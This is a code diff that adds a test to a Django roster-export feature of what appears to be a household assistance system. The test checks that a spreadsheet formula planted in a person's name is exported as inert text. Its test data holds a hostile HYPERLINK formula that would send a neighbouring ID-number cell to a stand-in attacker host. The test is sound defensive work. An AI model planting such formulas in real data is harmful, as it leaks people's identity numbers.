@@ -150,3 +150,26 @@ def test_a_running_export_shows_progress_to_htmx(world, client_for, plan) -> Non
     export.save()
     finished = client.get(f"/assistance/roster/exports/{export.pk}/", HTTP_HX_REQUEST="true")
     assert finished.status_code == 204 and finished["HX-Refresh"] == "true"
+
+
+def test_a_formula_in_a_name_is_inert_text_in_the_roster(world, client_for, plan, export_as) -> None:
+    """Formula injection (issue #14.4): the revealed roster holds full IDs next to the name, so a live
+    `=HYPERLINK(...&F4...)` would send the head's ID number away when clicked."""
+    from fangpin.assistance.models import Measure
+
+    hostile = '=HYPERLINK("http://evil.example/?id="&F4,"x")'
+    head = plan.household.memberships.get(relation="01").person
+    head.name = hostile
+    head.save(update_fields=["name"])
+    loan = MeasureType.objects.get(county_id="360722", code="XD-01")
+    actions.add_measure(
+        plan, actor=world.user("liu_cadre"), measure_type=loan, start_date=dt.date(2026, 3, 1)
+    )
+    Measure.objects.filter(plan=plan).update(income_gained=-120)  # e.g. a correction booked as a loss
+    client = client_for("zhang_township")
+    export = export_as(client, reveal="on", reason="县级核查帮扶资金发放")
+    values = dict(
+        zip(HEADERS, _sheet(client.get(f"/assistance/roster/exports/{export.pk}/download/"))[4], strict=True)
+    )
+    assert values["户主姓名"].data_type != "f" and values["户主姓名"].value == "'" + hostile
+    assert values["措施增收（元/年）"].value == -120 and values["措施增收（元/年）"].data_type == "n"
